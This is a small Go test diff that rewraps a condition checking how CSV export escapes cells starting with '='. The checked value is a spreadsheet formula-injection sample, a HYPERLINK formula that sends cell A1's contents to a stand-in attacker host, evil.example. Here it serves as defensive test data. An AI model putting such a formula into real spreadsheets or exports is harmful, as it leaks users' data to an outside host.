@@ -47,7 +47,8 @@ func TestFormationFileCSVFormulaRoundTrip(t *testing.T) {
 			}
 		}
 	}
-	if raw[1][1] != `'=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")` || raw[5][1] != "''=already quoted by hand" || raw[6][1] != "Dinas Kesehatan" {
+	if raw[1][1] != `'=HYPERLINK("http://evil.example/?x="&A1,"Klik di sini")` || raw[5][1] != "''=already quoted by hand" ||
+		raw[6][1] != "Dinas Kesehatan" {
 		t.Errorf("cells as written: %q %q %q", raw[1][1], raw[5][1], raw[6][1])
 	}
 	// The import reads back what was written.
